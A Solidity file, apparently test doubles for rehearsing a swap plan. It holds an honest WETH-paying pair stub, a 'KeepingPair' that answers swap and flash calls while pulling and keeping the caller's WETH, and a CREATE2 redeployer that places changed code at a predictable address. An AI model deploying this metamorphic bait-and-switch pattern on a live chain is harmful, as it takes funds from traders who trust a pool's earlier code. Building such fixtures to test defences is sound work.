// SPDX-License-Identifier: MIT
pragma solidity 0.8.28;

interface IPaid {
    function transfer(address to, uint256 amount) external returns (bool);
}

/// @dev A pair that gives what it is asked for, while it is honest: what a plan was rehearsed against.
contract HonestPair {
    function swap(uint256 amount0Out, uint256 amount1Out, address to, bytes calldata) external {
        // Immutables and storage would not be there for an account that takes on this code: the token is WETH.
        IPaid(0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2).transfer(to, amount0Out + amount1Out);
    }
}

/// @dev What stands at the same address afterwards: keeps what it is sent, and calls back as often as it is asked to.
contract KeepingPair {
    function swap(uint256, uint256, address, bytes calldata) external {}

    function swap(address, bool, int256 amount, uint160, bytes calldata data) external returns (int256, int256) {
        (bool ok,) = msg.sender.call(
            abi.encodeWithSignature("uniswapV3SwapCallback(int256,int256,bytes)", amount, -amount, data)
        );
        require(ok, "not paid");
        return (amount, -amount);
    }

    function exchange(uint256, uint256, uint256 amount, uint256) external returns (uint256) {
        (bool ok,) = 0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2.call(
            abi.encodeWithSignature("transferFrom(address,address,uint256)", msg.sender, address(this), amount)
        );
        require(ok, "not paid");
        return amount;
    }

    function flash(address, uint256, uint256, bytes calldata data) external {
        (bool ok,) = msg.sender.call(
            abi.encodeWithSignature("uniswapV3FlashCallback(uint256,uint256,bytes)", 0, 0, data)
        );
        require(ok, "not paid");
    }
}

/// @dev Puts a contract at an address that is known before, and another one there once that has destroyed itself.
contract Redeployer {
    bytes public next;

    event Deployed(address at);

    /// @dev CREATE2 with code that fetches what it deploys from here: the address does not depend on it.
    function deploy(bytes calldata runtime) external returns (address at) {
        next = runtime;
        bytes memory code = type(Fetching).creationCode;
        assembly {
            at := create2(0, add(code, 0x20), mload(code), 0)
        }
        require(at != address(0), "not deployed");
        emit Deployed(at);
    }
}

contract Fetching {
    constructor() {
        bytes memory runtime = Redeployer(msg.sender).next();
        assembly {
            return(add(runtime, 0x20), mload(runtime))
        }
    }
}
